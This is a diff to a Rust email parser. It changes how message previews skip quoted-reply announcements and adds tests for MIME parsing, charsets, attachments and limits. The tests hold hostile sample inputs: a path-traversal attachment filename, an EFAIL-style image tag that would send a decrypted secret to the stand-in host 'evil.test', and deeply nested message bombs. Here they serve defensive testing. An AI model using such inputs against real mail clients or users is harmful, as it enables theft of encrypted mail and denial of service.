@@ -80,28 +80,46 @@ pub fn attachment_bytes(raw: &[u8], index: usize) -> Result<Vec<u8>, ParseError>
 #[must_use]
 pub fn preview(text: &str) -> String {
     const MAX: usize = 200;
+    let text = text
+        .get(..text.floor_char_boundary(16 * 1024))
+        .unwrap_or(text);
     let mut preview = String::new();
-    for block in super::fold(
-        text.get(..text.floor_char_boundary(16 * 1024))
-            .unwrap_or(text),
-    ) {
-        if let super::Block::Text(own) = block {
-            for word in own.split_whitespace() {
-                // Rows of characters that only draw lines say nothing.
-                if word.chars().count() > 4 && !word.chars().any(char::is_alphanumeric) {
-                    continue;
-                }
-                if !preview.is_empty() {
-                    preview.push(' ');
-                }
-                preview.push_str(word);
-                if preview.len() > MAX * 4 {
-                    break;
-                }
+    let mut blocks = super::fold(text).into_iter().peekable();
+    while let Some(block) = blocks.next() {
+        let super::Block::Text(own) = block else {
+            continue;
+        };
+        let announces = matches!(blocks.peek(), Some(super::Block::Quote { .. }));
+        let own = if announces {
+            without_announcement(&own)
+        } else {
+            &own
+        };
+        for word in own.split_whitespace() {
+            // Rows of characters that only draw lines say nothing.
+            if word.chars().count() > 4 && !word.chars().any(char::is_alphanumeric) {
+                continue;
             }
+            if preview.len() > MAX * 4 {
+                break;
+            }
+            if !preview.is_empty() {
+                preview.push(' ');
+            }
+            preview.push_str(word);
         }
     }
     parse::clean(&preview, MAX)
+}
+
+/// A text without the last paragraph, if that ends in a colon: "On Monday, Kim wrote:".
+fn without_announcement(text: &str) -> &str {
+    let text = text.trim_end();
+    if !text.ends_with(':') {
+        return text;
+    }
+    let start = text.rfind("\n\n").unwrap_or(0);
+    text.get(..start).unwrap_or_default()
 }
 
 fn with_parsed<T>(
@@ -313,5 +331,174 @@ fn extension_of(media_type: &str) -> &'static str {
         "image/jpeg" => ".jpg",
         "image/gif" => ".gif",
         _ => "",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn crlf(text: &str) -> Vec<u8> {
+        text.replace('\n', "\r\n").into_bytes()
+    }
+
+    fn parsed(text: &str) -> ParsedMessage {
+        parse_message(&crlf(text)).unwrap()
+    }
+
+    fn text(t: &str) -> BodyPart {
+        BodyPart::Text(t.into())
+    }
+
+    const MIXED: &str = "From: a@b.test\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=o\n\n\
+        --o\nContent-Type: multipart/alternative; boundary=i\n\n\
+        --i\nContent-Type: text/plain\n\nHello\n\
+        --i\nContent-Type: text/html\n\n<b>Hello</b><img src=cid:logo>\n--i--\n\
+        --o\nContent-Type: image/png\nContent-ID: <logo>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n\
+        --o\nContent-Type: application/pdf; name=\"../../offer.pdf\"\nContent-Disposition: attachment; filename=\"../../offer.pdf\"\nContent-Transfer-Encoding: base64\n\nJVBERi0=\n\
+        --o\nContent-Type: text/plain\nContent-Disposition: attachment; filename*=utf-8''offer%2Epdf\n\nnot a pdf\n\
+        --o--\n";
+
+    #[test]
+    fn the_parts_of_a_common_message() {
+        let message = parsed(MIXED);
+        assert_eq!(message.body.first(), Some(&text("Hello")));
+        assert_eq!(
+            message.html.as_deref(),
+            Some("<b>Hello</b><img src=cid:logo>")
+        );
+        let names: Vec<_> = message
+            .attachments
+            .iter()
+            .map(|a| a.name.as_str())
+            .collect();
+        assert_eq!(names, ["attachment-1.png", "offer.pdf", "offer (2).pdf"]);
+        let logo = &message.attachments[0];
+        assert!(logo.inline && logo.content_id.as_deref() == Some("logo"));
+        assert_eq!(message.attachments[1].size, 5);
+        assert!(message.has_attachment());
+        assert_eq!(attachment_bytes(&crlf(MIXED), 1).unwrap(), b"%PDF-");
+        assert_eq!(
+            attachment_bytes(&crlf(MIXED), 9),
+            Err(ParseError::NoSuchAttachment)
+        );
+    }
+
+    #[test]
+    fn html_alone_or_beside_an_empty_text_is_what_is_read() {
+        let html = vec![BodyPart::Html("<p>Hi</p>".into())];
+        assert_eq!(parsed("Content-Type: text/html\n\n<p>Hi</p>").body, html);
+        let both = "Content-Type: multipart/alternative; boundary=i\n\n--i\nContent-Type: text/plain\n\n \n--i\nContent-Type: text/html\n\n<p>Hi</p>\n--i--\n";
+        assert_eq!(parsed(both).body, html);
+    }
+
+    #[test]
+    fn parts_are_never_joined() {
+        // The EFAIL construct: an image tag left open, an encrypted part, the tag's end.
+        let raw = "Content-Type: multipart/mixed; boundary=o\n\n\
+            --o\nContent-Type: text/html\n\n<img src=\"http://evil.test/\n\
+            --o\nContent-Type: text/plain\n\nthe secret\n\
+            --o\nContent-Type: text/html\n\n\">\n--o--\n";
+        assert_eq!(
+            parsed(raw).body,
+            [
+                BodyPart::Html("<img src=\"http://evil.test/".into()),
+                text("the secret"),
+                BodyPart::Html("\">".into())
+            ]
+        );
+    }
+
+    #[test]
+    fn flowed_text_and_odd_line_ends_are_straightened() {
+        let flowed = "Content-Type: text/plain; format=flowed\n\nOne \ntwo\n";
+        assert_eq!(parsed(flowed).body, [text("One two\n")]);
+        let message = parse_message(b"Subject: x\r\n\r\na\rb\0c\x1bd\r\ne").unwrap();
+        assert_eq!(message.body, [text("a\nbcd\ne")]);
+    }
+
+    #[test]
+    fn charsets_are_decoded() {
+        let raw =
+            b"Content-Type: text/plain; charset=windows-1252\r\n\r\nGr\xfc\xdfe \x80".to_vec();
+        assert_eq!(parse_message(&raw).unwrap().body, [text("Grüße €")]);
+    }
+
+    #[test]
+    fn a_message_inside_is_an_attachment() {
+        let raw = "Subject: out\nContent-Type: multipart/mixed; boundary=o\n\n\
+            --o\nContent-Type: text/plain\n\nsee below\n\
+            --o\nContent-Type: message/rfc822\n\nSubject: in/side\nFrom: kim@b.test\n\ninner\n--o--\n";
+        let message = parsed(raw);
+        assert_eq!(message.body, [text("see below")]);
+        assert_eq!(message.header.subject, "out");
+        let inner = &message.attachments[0];
+        assert_eq!(
+            (inner.name.as_str(), inner.media_type.as_str()),
+            ("in_side.eml", "message/rfc822")
+        );
+        let bytes = attachment_bytes(&crlf(raw), 0).unwrap();
+        assert_eq!(parse_message(&bytes).unwrap().header.subject, "in/side");
+        assert_eq!(bytes.len() as u64, inner.size);
+    }
+
+    #[test]
+    fn bombs_are_refused_or_read_in_time() {
+        let mut nested = String::new();
+        for _ in 0..20_000 {
+            nested.push_str("Content-Type: message/rfc822\r\n\r\n");
+        }
+        assert_eq!(parse_message(nested.as_bytes()), Err(ParseError::TooDeep));
+        let mut multipart = String::new();
+        for i in 0..20_000 {
+            multipart.push_str(&format!(
+                "Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n"
+            ));
+        }
+        let _ = parse_message(multipart.as_bytes());
+        let many = format!(
+            "Content-Type: multipart/mixed; boundary=o\r\n\r\n{}",
+            "--o\r\nContent-Type: application/x; name=a\r\n\r\nx\r\n".repeat(20_000)
+        );
+        let message = parse_message(many.as_bytes()).unwrap();
+        assert_eq!(message.attachments.len(), MAX_ATTACHMENTS);
+        assert_eq!(parse_message(b""), Err(ParseError::Damaged));
+    }
+
+    #[test]
+    fn as_deep_as_it_is_allowed_can_be_dropped() {
+        let mut nested = String::from("Subject: top\r\n");
+        for _ in 0..MAX_NESTED {
+            nested.push_str("Content-Type: message/rfc822\r\n\r\n");
+        }
+        // The stack of a tokio worker.
+        let small = std::thread::Builder::new().stack_size(2 * 1024 * 1024);
+        let thread =
+            small.spawn(move || parse_message(nested.as_bytes()).map(|m| m.header.subject));
+        assert_eq!(thread.unwrap().join().unwrap().unwrap(), "top");
+    }
+
+    #[test]
+    fn the_preview_is_the_first_own_words() {
+        let text = "Hi team,\n\n----------\nthe printer burns.\n\nOn Monday Kim wrote:\n> old\n> words\n-- \nKim";
+        assert_eq!(preview(text), "Hi team, the printer burns.");
+        assert_eq!(preview(&"ä ".repeat(1000)).chars().count(), 199);
+        assert_eq!(preview(""), "");
+    }
+
+    proptest! {
+        #[test]
+        fn no_bytes_defeat_it(bytes in prop::collection::vec(any::<u8>(), 0..400), head in "(Content-Type: (multipart/mixed; boundary=a|message/rfc822|text/plain; charset=utf-7|image/png)\r\n)?(Content-Transfer-Encoding: (base64|quoted-printable)\r\n)?\r\n(--a\r\n)?") {
+            let mut raw = head.into_bytes();
+            raw.extend(bytes);
+            if let Ok(message) = parse_message(&raw) {
+                for attachment in &message.attachments {
+                    let bytes = attachment_bytes(&raw, attachment.index).unwrap();
+                    prop_assert_eq!(bytes.len() as u64, attachment.size);
+                    prop_assert!(!attachment.name.is_empty());
+                }
+            }
+        }
     }
 }
